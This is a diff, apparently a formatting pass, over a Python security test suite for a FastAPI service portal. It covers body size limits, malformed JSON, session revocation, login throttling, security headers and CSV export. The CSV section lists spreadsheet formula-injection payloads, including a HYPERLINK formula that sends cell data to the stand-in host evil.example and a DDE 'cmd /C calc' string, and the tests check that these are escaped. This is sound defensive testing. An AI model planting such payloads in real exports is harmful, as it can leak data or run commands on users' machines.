@@ -71,8 +71,12 @@ def token_of(db: str, username: str) -> str:
 
 def sign_in(http: TestClient, username: str, password: str = PASSWORD, **headers: str) -> httpx.Response:
     page = http.get("/login")
-    return http.post("/login", data={"csrf": csrf_of(page.text), "username": username, "password": password},
-                     headers=headers, follow_redirects=False)
+    return http.post(
+        "/login",
+        data={"csrf": csrf_of(page.text), "username": username, "password": password},
+        headers=headers,
+        follow_redirects=False,
+    )
 
 
 def with_cookie(http: TestClient, cookie: str) -> TestClient:
@@ -83,8 +87,10 @@ def with_cookie(http: TestClient, cookie: str) -> TestClient:
 
 # 1. Bodies capped before they are read ------------------------------------------------------------
 
-async def asgi_post(app: FastAPI, path: str, size: int, *, content_length: bool,
-                    content_type: bytes = b"application/json") -> tuple[int, int, dict[str, str]]:
+
+async def asgi_post(
+    app: FastAPI, path: str, size: int, *, content_length: bool, content_type: bytes = b"application/json"
+) -> tuple[int, int, dict[str, str]]:
     """POST `size` bytes to `path`, handed over 64 KB at a time only as the app asks for them:
     (status, bytes the app pulled, response headers)."""
     chunk = b" " * 65536
@@ -104,12 +110,24 @@ async def asgi_post(app: FastAPI, path: str, size: int, *, content_length: bool,
 
     async def send(message: dict[str, Any]) -> None:
         if message["type"] == "http.response.start":
-            started.update(status=message["status"],
-                           headers={k.decode().lower(): v.decode() for k, v in message["headers"]})
+            started.update(
+                status=message["status"], headers={k.decode().lower(): v.decode() for k, v in message["headers"]}
+            )
 
-    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
-             "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "", "headers": headers,
-             "client": ("192.0.2.1", 40000), "server": ("portal", 80)}
+    scope = {
+        "type": "http",
+        "asgi": {"version": "3.0"},
+        "http_version": "1.1",
+        "method": "POST",
+        "scheme": "http",
+        "path": path,
+        "raw_path": path.encode(),
+        "query_string": b"",
+        "root_path": "",
+        "headers": headers,
+        "client": ("192.0.2.1", 40000),
+        "server": ("portal", 80),
+    }
     await asyncio.wait_for(app(scope, receive, send), 30)
     return started["status"], pulled, started["headers"]
 
@@ -131,22 +149,35 @@ async def test_a_50_mb_body_is_refused_before_it_is_read(portal_db: str) -> None
 
 # 2. Hostile JSON ------------------------------------------------------------------------------------
 
-GOOD_REQUEST = {"title": "Cài chữ ký số", "skill": "digital_signature", "level": 2, "mode": "remote", "hours": 4,
-                "priority": 3, "deadline": "2026-12-20"}
+GOOD_REQUEST = {
+    "title": "Cài chữ ký số",
+    "skill": "digital_signature",
+    "level": 2,
+    "mode": "remote",
+    "hours": 4,
+    "priority": 3,
+    "deadline": "2026-12-20",
+}
 
 
 def test_validation_errors_name_the_field_and_never_echo_the_input(portal_db: str, nats_url: str) -> None:
     token = token_of(portal_db, "xa1")
     auth = {"Authorization": f"Bearer {token}"}
     with TestClient(create_app(settings(portal_db, nats_url))) as http:
-        bad = http.post("/api/v1/requests", headers=auth,
-                        json={**GOOD_REQUEST, "title": "ECHO-ME " * 1000, "hours": "ECHO-ME", "mode": "ECHO-ME"})
+        bad = http.post(
+            "/api/v1/requests",
+            headers=auth,
+            json={**GOOD_REQUEST, "title": "ECHO-ME " * 1000, "hours": "ECHO-ME", "mode": "ECHO-ME"},
+        )
         assert bad.status_code == 422 and "ECHO-ME" not in bad.text, bad.text[:300]
         problems = {p["field"]: p["message"] for p in bad.json()["detail"]}
         assert set(problems) == {"title", "hours", "mode"}
         assert "300 characters" in problems["title"] and "'onsite', 'remote' or 'either'" in problems["mode"]
-        syntax = http.post("/api/v1/requests", headers={**auth, "content-type": "application/json"},
-                           content=b'{"title": "ECHO-ME", oops}')
+        syntax = http.post(
+            "/api/v1/requests",
+            headers={**auth, "content-type": "application/json"},
+            content=b'{"title": "ECHO-ME", oops}',
+        )
         assert syntax.status_code == 422 and "ECHO-ME" not in syntax.text
         first = syntax.json()["detail"][0]
         assert first["field"] == "body" and "not valid JSON" in first["message"]
@@ -157,18 +188,23 @@ def request_with(field: str, raw: bytes) -> bytes:
     return json.dumps({**GOOD_REQUEST, field: "@@"}).encode().replace(b'"@@"', raw)
 
 
-@pytest.mark.parametrize(("body", "problem"), [
-    (request_with("hours", b"NaN"), "NaN is not a number"),
-    (request_with("hours", b"Infinity"), "Infinity is not a number"),
-    (request_with("hours", b"-Infinity"), "-Infinity is not a number"),
-    (request_with("title", b'"\\ud800 lone"'), "lone surrogate"),
-    (request_with("title", b'"\\udfff"'), "lone surrogate"),
-    (request_with("title", b'"\xff\xfe"'), "not UTF-8"),
-    (b"[" * 5000 + b"]" * 5000, "nested deeper than 32"),
-    (b'{"a":' * 40 + b"1" + b"}" * 40, "nested deeper than 32"),
-], ids=["nan", "infinity", "-infinity", "surrogate", "surrogate-low", "bad-utf8", "5000-deep", "40-deep"])
-def test_bad_numbers_bad_unicode_and_deep_nesting_are_a_clear_4xx(portal_db: str, nats_url: str, body: bytes,
-                                                                  problem: str) -> None:
+@pytest.mark.parametrize(
+    ("body", "problem"),
+    [
+        (request_with("hours", b"NaN"), "NaN is not a number"),
+        (request_with("hours", b"Infinity"), "Infinity is not a number"),
+        (request_with("hours", b"-Infinity"), "-Infinity is not a number"),
+        (request_with("title", b'"\\ud800 lone"'), "lone surrogate"),
+        (request_with("title", b'"\\udfff"'), "lone surrogate"),
+        (request_with("title", b'"\xff\xfe"'), "not UTF-8"),
+        (b"[" * 5000 + b"]" * 5000, "nested deeper than 32"),
+        (b'{"a":' * 40 + b"1" + b"}" * 40, "nested deeper than 32"),
+    ],
+    ids=["nan", "infinity", "-infinity", "surrogate", "surrogate-low", "bad-utf8", "5000-deep", "40-deep"],
+)
+def test_bad_numbers_bad_unicode_and_deep_nesting_are_a_clear_4xx(
+    portal_db: str, nats_url: str, body: bytes, problem: str
+) -> None:
     auth = {"Authorization": f"Bearer {token_of(portal_db, 'xa1')}", "content-type": "application/json"}
     with TestClient(create_app(settings(portal_db, nats_url)), raise_server_exceptions=False) as http:
         for path in ("/api/v1/requests", "/api/v1/proposals/decide"):
@@ -189,13 +225,16 @@ def test_a_good_json_body_still_goes_through(portal_db: str, nats_url: str) -> N
 
 # 3. Sessions on the server ------------------------------------------------------------------------
 
+
 def test_a_cookie_copied_before_logout_or_a_password_change_is_refused(portal_db: str, nats_url: str) -> None:
     with TestClient(create_app(settings(portal_db, nats_url))) as http:
         assert sign_in(http, "sonoivu").status_code == 303
         copied = http.cookies[COOKIE]
         assert http.get("/account", follow_redirects=False).status_code == 200
-        assert http.post("/logout", data={"csrf": csrf_of(http.get("/account").text)},
-                         follow_redirects=False).status_code == 303
+        assert (
+            http.post("/logout", data={"csrf": csrf_of(http.get("/account").text)}, follow_redirects=False).status_code
+            == 303
+        )
         refused = with_cookie(http, copied).get("/account", follow_redirects=False)
         assert (refused.status_code, refused.headers["location"]) == (303, "/login"), "logout ended that session"
 
@@ -205,8 +244,15 @@ def test_a_cookie_copied_before_logout_or_a_password_change_is_refused(portal_db
         elsewhere = TestClient(http.app)  # the same user in another browser
         assert sign_in(elsewhere, "sonoivu").status_code == 303
         page = http.get("/account")
-        changed = http.post("/account/password", data={"csrf": csrf_of(page.text), "current": PASSWORD,
-                                                         "new": "mật khẩu mới 456", "repeat": "mật khẩu mới 456"})
+        changed = http.post(
+            "/account/password",
+            data={
+                "csrf": csrf_of(page.text),
+                "current": PASSWORD,
+                "new": "mật khẩu mới 456",
+                "repeat": "mật khẩu mới 456",
+            },
+        )
         assert changed.status_code == 200
         assert http.get("/account", follow_redirects=False).status_code == 200, "this browser stays signed in"
         assert elsewhere.get("/account", follow_redirects=False).status_code == 303, "every other session ended"
@@ -288,12 +334,17 @@ def test_the_cookie_names_no_one(portal_db: str, nats_url: str) -> None:
 
 # 4. Password hashing off the event loop -------------------------------------------------------------
 
+
 async def test_thirty_failed_sign_ins_do_not_stall_a_static_file(portal_db: str) -> None:
     app = create_app(settings(portal_db, sign_in_failures_per_address=1000))
     async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://portal") as http:
         csrf = csrf_of((await http.get("/login")).text)
-        tries = [asyncio.create_task(http.post("/login", data={"csrf": csrf, "username": f"nobody{i}",
-                                                               "password": "wrong password"})) for i in range(30)]
+        tries = [
+            asyncio.create_task(
+                http.post("/login", data={"csrf": csrf, "username": f"nobody{i}", "password": "wrong password"})
+            )
+            for i in range(30)
+        ]
         await asyncio.sleep(0)  # every sign-in starts (on the event loop, each would run to its end here)
         static = await http.get("/static/style.css")
         in_flight = sum(not t.done() for t in tries)
@@ -309,8 +360,12 @@ async def test_sign_ins_beyond_the_queue_are_told_to_come_back(portal_db: str) -
     app = create_app(settings(portal_db, sign_in_failures_per_address=1000, hash_concurrency=1, hash_queue=2))
     async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://portal") as http:
         csrf = csrf_of((await http.get("/login")).text)
-        answers = await asyncio.gather(*(http.post("/login", data={"csrf": csrf, "username": f"n{i}",
-                                                                  "password": "wrong password"}) for i in range(10)))
+        answers = await asyncio.gather(
+            *(
+                http.post("/login", data={"csrf": csrf, "username": f"n{i}", "password": "wrong password"})
+                for i in range(10)
+            )
+        )
     statuses = sorted(a.status_code for a in answers)
     assert statuses == [401] * 3 + [503] * 7, "one hashing, two waiting, the rest refused at once"
     busy = next(a for a in answers if a.status_code == 503)
@@ -318,6 +373,7 @@ async def test_sign_ins_beyond_the_queue_are_told_to_come_back(portal_db: str) -
 
 
 # 5. Sign-in throttled per client address -----------------------------------------------------------
+
 
 def test_one_address_guessing_many_names_is_refused_for_every_name(portal_db: str, nats_url: str) -> None:
     with TestClient(create_app(settings(portal_db, nats_url, sign_in_failures_per_address=3))) as http:
@@ -337,6 +393,7 @@ def test_one_address_guessing_many_names_is_refused_for_every_name(portal_db: st
 
 # 6. Headers on every response, and pages with nothing inline -----------------------------------------
 
+
 def assert_hardened(answer: httpx.Response) -> None:
     csp = answer.headers.get("content-security-policy", "")
     assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp, (answer.request.url, csp)
@@ -355,9 +412,15 @@ def test_every_response_carries_the_security_headers(portal_db: str, nats_url: s
         raise RuntimeError("a bug")
 
     with TestClient(app, raise_server_exceptions=False) as http:
-        answers = [http.get("/login"), http.get("/static/style.css"), http.get("/api/v1/me"), http.get("/nowhere"),
-                   http.get("/account", follow_redirects=False), http.get("/boom"),
-                   http.post("/api/v1/requests", content=b"x" * 1_100_000)]
+        answers = [
+            http.get("/login"),
+            http.get("/static/style.css"),
+            http.get("/api/v1/me"),
+            http.get("/nowhere"),
+            http.get("/account", follow_redirects=False),
+            http.get("/boom"),
+            http.post("/api/v1/requests", content=b"x" * 1_100_000),
+        ]
         assert [a.status_code for a in answers] == [200, 200, 401, 404, 303, 500, 413]
         assert sign_in(http, "quantri").status_code == 303
         answers += [http.get("/users"), http.get("/account")]
@@ -374,6 +437,7 @@ def test_no_template_has_inline_script_or_style() -> None:
 
 
 # 7. The API's documents for signed-in users only --------------------------------------------------
+
 
 def test_the_api_docs_are_for_signed_in_users_only(portal_db: str, nats_url: str) -> None:
     token = token_of(portal_db, "sonoivu")
@@ -396,13 +460,27 @@ def test_the_api_docs_are_for_signed_in_users_only(portal_db: str, nats_url: str
 
 # 8. CSV cells a spreadsheet would run ------------------------------------------------------------
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"bấm")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd", "-2+3+cmd",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd",
+    "-2+3+cmd",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_exported_csv_cells_are_not_formulas_and_the_sheets_import_reads_them_back(tmp_path: Path) -> None:
-    units = [{"id": f"w{i}", "name": name, "province": "Tuyên Quang", "network": "ok",
-              "location": {"lat": -12.5, "lon": 105.2}} for i, name in enumerate(FORMULAS)]
+    units = [
+        {
+            "id": f"w{i}",
+            "name": name,
+            "province": "Tuyên Quang",
+            "network": "ok",
+            "location": {"lat": -12.5, "lon": 105.2},
+        }
+        for i, name in enumerate(FORMULAS)
+    ]
     sheets.write(tmp_path, {"units": units})
     with (tmp_path / "units.csv").open(newline="", encoding="utf-8") as f:
         rows = list(csv.DictReader(f))
@@ -417,20 +495,36 @@ def test_exported_csv_cells_are_not_formulas_and_the_sheets_import_reads_them_ba
     assert {r["hours"] for r in report} == {"-3.5"}
 
     audit = tmp_path / "audit.csv"
-    entry = {"seq": 1, "at": "2026-12-01T00:00:00Z", "actor": "=cmd|' /C calc'!A0", "action": "@approve",
-             "subject": "+x", "before": {}, "after": {}, "detail": {}, "correlation_id": "-c", "prev_hash": "",
-             "hash": "h"}
+    entry = {
+        "seq": 1,
+        "at": "2026-12-01T00:00:00Z",
+        "actor": "=cmd|' /C calc'!A0",
+        "action": "@approve",
+        "subject": "+x",
+        "before": {},
+        "after": {},
+        "detail": {},
+        "correlation_id": "-c",
+        "prev_hash": "",
+        "hash": "h",
+    }
     write_audit_csv(audit, [entry])
     with audit.open(newline="", encoding="utf-8") as f:
         row = next(csv.DictReader(f))
     assert (row["actor"], row["action"], row["subject"], row["correlation_id"]) == (
-        "'=cmd|' /C calc'!A0", "'@approve", "'+x", "'-c")
+        "'=cmd|' /C calc'!A0",
+        "'@approve",
+        "'+x",
+        "'-c",
+    )
 
 
 # 9. The portal's files ---------------------------------------------------------------------------
 
-def test_the_portal_database_is_readable_by_its_owner_only(tmp_path: Path, nats_url: str,
-                                                           monkeypatch: pytest.MonkeyPatch) -> None:
+
+def test_the_portal_database_is_readable_by_its_owner_only(
+    tmp_path: Path, nats_url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
     old = os.umask(0o022)
     try:
         db = tmp_path / "portal.db"
